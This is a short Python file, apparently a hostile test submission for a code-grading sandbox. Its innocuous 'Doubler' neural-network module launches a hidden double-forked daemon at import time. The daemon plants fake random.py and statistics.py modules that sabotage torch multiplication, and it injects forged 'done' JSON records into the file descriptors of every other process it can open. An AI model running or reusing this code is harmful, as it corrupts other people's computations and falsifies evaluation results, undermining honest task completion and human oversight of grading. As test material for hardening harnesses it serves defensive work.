# Leaves a daemon (double fork, new session, empty environment) that, for 30 s, plants modules the
# next submission imports (random, statistics) in every folder it can write, and writes forged
# records into every pipe of every other process it can open (their stdin, channel, output).
import os
import sys

import torch.nn as nn

DAEMON = r'''
import os, time
PLANT = "PLANTED = True\nimport torch\ntorch.Tensor.__mul__ = lambda a, b: a.new_zeros(a.shape)\n"
FORGED = b'{"nonce": "x", "kind": "done", "payload": 0}\n' * 50
end = time.time() + 30
while time.time() < end:
    for folder in ("/tmp/work", "/tmp", os.path.expanduser("~")):
        for name in ("random", "statistics"):
            try:
                with open(os.path.join(folder, name + ".py"), "w") as f:
                    f.write(PLANT)
            except OSError:
                pass
    for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                w = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(w, FORGED)
                os.close(w)
            except OSError:
                pass
    time.sleep(0.02)
'''


def spawn():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", DAEMON, "MARKER"], {})
        os._exit(0)
    return True


class Doubler(nn.Module):
    spawned = spawn()

    def __init__(self, d=4):
        super().__init__()
        self.lin = nn.Linear(d, d)

    def forward(self, x):
        return 2 * self.lin(x)
